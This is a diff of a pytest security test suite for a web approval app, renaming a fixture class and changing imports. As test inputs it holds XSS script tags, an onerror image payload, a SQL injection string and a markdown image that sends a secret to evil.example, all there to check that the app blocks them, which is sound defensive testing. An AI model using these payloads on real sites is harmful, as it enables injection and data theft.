@@ -11,20 +11,20 @@ import pytest
 from phasegate.core import Exhausted, UsageError
 from phasegate.identity.sessions import ABSOLUTE
 from phasegate.ledger import GateKey
-from phasegate.web.listen import listen
-from unit.authors.small import FOLDER, NOW, SPEC
-from unit.web.parts import HOST, ORIGIN, Office, office
+from phasegate.web.socket import listen
+from unit.authors.sample_spec import FOLDER, NOW, SPEC
+from unit.web.fixtures import HOST, ORIGIN, WebServer, web_server
 
 SCRIPT = "<script>alert(1)</script>"
 
 
 @pytest.fixture
-async def here(tmp_path: Path) -> AsyncIterator[Office]:
-    async with office(tmp_path) as made:
+async def here(tmp_path: Path) -> AsyncIterator[WebServer]:
+    async with web_server(tmp_path) as made:
         yield made
 
 
-async def undecided(here: Office, key: GateKey) -> bool:
+async def undecided(here: WebServer, key: GateKey) -> bool:
     return await here.app.ledger.decision(key) is None
 
 
@@ -44,7 +44,7 @@ async def undecided(here: Office, key: GateKey) -> bool:
         pytest.param({"authorization": "Bearer x"}, id="bearer beside a cookie"),
     ],
 )
-async def test_form_from_elsewhere_decides_nothing(headers: dict[str, str], here: Office) -> None:
+async def test_form_from_elsewhere_decides_nothing(headers: dict[str, str], here: WebServer) -> None:
     key = await here.gate()
     async with here.browser("ada") as ada:
         fields = {**await ada.form(f"/gates/{key}"), "decision": "approve"}
@@ -55,7 +55,7 @@ async def test_form_from_elsewhere_decides_nothing(headers: dict[str, str], here
 
 
 @pytest.mark.parametrize("token", ["", "0" * 64, "é", "\u202e" * 32], ids=["none", "made up", "not ASCII", "bidi"])
-async def test_form_without_its_token_decides_nothing(token: str, here: Office) -> None:
+async def test_form_without_its_token_decides_nothing(token: str, here: WebServer) -> None:
     key = await here.gate()
     async with here.browser("ada") as ada:
         fields = {**await ada.form(f"/gates/{key}"), "decision": "approve", "form_token": token}
@@ -66,13 +66,13 @@ async def test_form_without_its_token_decides_nothing(token: str, here: Office) 
 @pytest.mark.parametrize(
     "host", ["evil.example", f"{HOST}.evil.example", "127.0.0.1", "", f"{HOST}@evil.example", "localhost:1"]
 )
-async def test_page_is_not_served_under_another_name(host: str, here: Office) -> None:
+async def test_page_is_not_served_under_another_name(host: str, here: WebServer) -> None:
     async with here.browser("ada") as ada:
         answer = await ada.client.get("/", headers={"host": host})
     assert (answer.status_code, answer.json()["reason"]) == (421, "unknown_host")
 
 
-async def test_cookie_of_an_ended_session_is_401(here: Office) -> None:
+async def test_cookie_of_an_ended_session_is_401(here: WebServer) -> None:
     key = await here.gate()
     async with here.browser("ada") as ada:
         secret, fields = ada.client.cookies["phasegate"], await ada.form(f"/gates/{key}")
@@ -85,7 +85,7 @@ async def test_cookie_of_an_ended_session_is_401(here: Office) -> None:
 
 
 @pytest.mark.parametrize("later", [timedelta(days=1), ABSOLUTE, timedelta(minutes=31)], ids=["a day", "12 h", "idle"])
-async def test_clock_that_jumps_ends_the_session(later: timedelta, here: Office) -> None:
+async def test_clock_that_jumps_ends_the_session(later: timedelta, here: WebServer) -> None:
     key = await here.gate()
     async with here.browser("ada") as ada:
         fields = {**await ada.form(f"/gates/{key}"), "decision": "approve"}
@@ -94,7 +94,7 @@ async def test_clock_that_jumps_ends_the_session(later: timedelta, here: Office)
     assert (answer.status_code, await undecided(here, key)) == (401, True)
 
 
-async def test_gate_that_expired_is_not_approved_by_a_page_that_was_left_open(here: Office) -> None:
+async def test_gate_that_expired_is_not_approved_by_a_page_that_was_left_open(here: WebServer) -> None:
     key = await here.gate()
     async with here.browser("ada") as ada:
         fields = {**await ada.form(f"/gates/{key}"), "decision": "approve"}
@@ -106,7 +106,7 @@ async def test_gate_that_expired_is_not_approved_by_a_page_that_was_left_open(he
     assert await undecided(here, key)
 
 
-async def test_eight_browsers_at_once_have_one_winner(here: Office) -> None:
+async def test_eight_browsers_at_once_have_one_winner(here: WebServer) -> None:
     key = await here.gate()
     async with here.browser("ada") as ada:
         fields = await ada.form(f"/gates/{key}")
@@ -120,7 +120,7 @@ async def test_eight_browsers_at_once_have_one_winner(here: Office) -> None:
     assert {answer.status_code for answer in answers} == {303, 409}
 
 
-async def test_script_in_every_field_stays_text(here: Office) -> None:
+async def test_script_in_every_field_stays_text(here: WebServer) -> None:
     text = SPEC.replace("Free volumes", f"Free {SCRIPT} volumes").replace(
         "Teams want", f"{SCRIPT}<img src=x onerror=y> Teams want"
     )
@@ -144,7 +144,7 @@ async def test_script_in_every_field_stays_text(here: Office) -> None:
     assert "&lt;script&gt;" in pages[1].text
 
 
-async def test_image_that_carries_data_away_is_not_fetched(here: Office) -> None:
+async def test_image_that_carries_data_away_is_not_fetched(here: WebServer) -> None:
     line = "![x](https://evil.example/?q=secret) <img src=https://evil.example>"
     here.script.files[f"{FOLDER}/spec.md"] = f"{SPEC}\n{line}\n".encode()
     key = await here.gate()
@@ -154,7 +154,7 @@ async def test_image_that_carries_data_away_is_not_fetched(here: Office) -> None
     assert "img-src 'self' data:;" in page.headers["content-security-policy"]
 
 
-async def test_hidden_characters_are_marked_in_the_difference(here: Office) -> None:
+async def test_hidden_characters_are_marked_in_the_difference(here: WebServer) -> None:
     here.script.files[f"{FOLDER}/spec.md"] = f"{SPEC}\nOnly ad\u202emin\u200b may.\n".encode()
     key = await here.gate()
     async with here.browser("ada") as ada:
@@ -165,7 +165,7 @@ async def test_hidden_characters_are_marked_in_the_difference(here: Office) -> N
     assert "\u200b" not in page
 
 
-async def test_signing_in_is_slowed_down(here: Office) -> None:
+async def test_signing_in_is_slowed_down(here: WebServer) -> None:
     async with here.browser() as visitor:
         answers = [(await visitor.sign_in("ada", "wrong")).status_code for _ in range(7)]
         assert answers == [401] * 5 + [429] * 2
@@ -173,7 +173,7 @@ async def test_signing_in_is_slowed_down(here: Office) -> None:
 
 
 @pytest.mark.parametrize("name", ["", "ada\x00", "\u202eada", "a" * 10_000, "ada' or 1=1 --", "policy:demo"])
-async def test_odd_names_are_nobody(name: str, here: Office) -> None:
+async def test_odd_names_are_nobody(name: str, here: WebServer) -> None:
     async with here.browser() as visitor:
         answer = await visitor.sign_in(name, "correct horse battery")
     assert answer.status_code == 401
@@ -190,7 +190,7 @@ async def test_odd_names_are_nobody(name: str, here: Office) -> None:
         pytest.param(b"{", "application/json", id="JSON"),
     ],
 )
-async def test_odd_bodies_are_refused(content: bytes, kind: str, here: Office) -> None:
+async def test_odd_bodies_are_refused(content: bytes, kind: str, here: WebServer) -> None:
     key = await here.gate()
     async with here.browser("ada") as ada:
         for path in ("/sign-in", f"/gates/{key}/decide", "/backlog/order", "/sign-out"):
@@ -199,7 +199,7 @@ async def test_odd_bodies_are_refused(content: bytes, kind: str, here: Office) -
     assert await undecided(here, key)
 
 
-async def test_page_tells_nobody_whether_a_run_exists(here: Office) -> None:
+async def test_page_tells_nobody_whether_a_run_exists(here: WebServer) -> None:
     key = await here.gate()
     async with here.browser() as visitor:
         there, not_there = [await visitor.client.get(f"/runs/{run}") for run in (key.run, "nothing")]
@@ -229,7 +229,7 @@ def test_behind_tls_the_cookie_is_bound_to_host_and_tls() -> None:
     assert settings.origins == {"https://inbox.example.org"}
 
 
-async def test_rebound_name_is_not_even_asked_to_sign_in(here: Office) -> None:
+async def test_rebound_name_is_not_even_asked_to_sign_in(here: WebServer) -> None:
     transport = httpx.ASGITransport(app=here.web)
     async with httpx.AsyncClient(transport=transport, base_url="http://evil.example") as client:
         assert (await client.get("/sign-in")).status_code == 421
